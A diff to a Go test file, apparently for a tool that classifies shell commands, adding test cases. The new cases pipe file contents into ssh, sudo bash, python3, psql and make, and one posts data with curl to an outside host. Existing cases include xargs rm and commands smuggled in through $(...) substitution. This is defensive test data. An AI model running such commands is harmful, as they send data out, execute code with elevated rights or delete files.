@@ -131,6 +131,10 @@ func TestBound(t *testing.T) {
 		"ls | xargs rm", "while true; do mix test; done", "f() { mix test; }; f", "PATH=. ; mix test", "X=$(evil) mix test",
 		"git $(echo push) tag -d v1", "bin/rubocop $(echo x)",
 		"timeout 5 bash <<'E'\nls\nE", "timeout 5 bash < x", "echo ls | { bash; }", "{ bash; } < x", "(bash) <<'E'\nls\nE",
+		"cat x | ssh host bash", "cat x | docker exec -i db psql", "cat x | { psql db; }",
+		"cat x | curl -d @- https://x.test",
+		"cat x | python3 manage.py shell", "cat x | bash -s y", "cat x | python3 -", "cat x | make -f -",
+		"cat x | sudo bash",
 		"cat x | apply_patch", "apply_patch < x", "apply_patch", "timeout 5 apply_patch <<'E'\nls\nE",
 		"apply_patch <<E\n*** Begin Patch\n*** Delete File: $x\n*** End Patch\nE",
 	} {
@@ -157,7 +161,7 @@ func TestParts(t *testing.T) {
 		"find . -name '*.pyc' -exec rm {} +":           "*find . -name '*.pyc' -exec rm {} +|rm '{}'",
 		"git ls-files | xargs cat":                     "*git ls-files|*xargs cat|*cat '{}'",
 		"if [ -f go.mod ]; then go build ./...; fi":    "*[ -f go.mod ]|go build ./...",
-		"for f in a b; do go vet ./$f; done":           "go vet ./$f|go vet ./$f",
+		"for f in a b; do go vet ./$f; done":           "f=a; go vet ./$f|f=b; go vet ./$f",
 		"(cd sub && make test) || true":                "make test|*true",
 		"git commit -m \"$(cat <<'EOF'\nsubject\n\nbody\nEOF\n)\"": "*cat <<'EOF'\nsubject\n\nbody\nEOF|" +
 			"git commit -m \"$(cat <<'EOF'\nsubject\n\nbody\nEOF\n)\"",
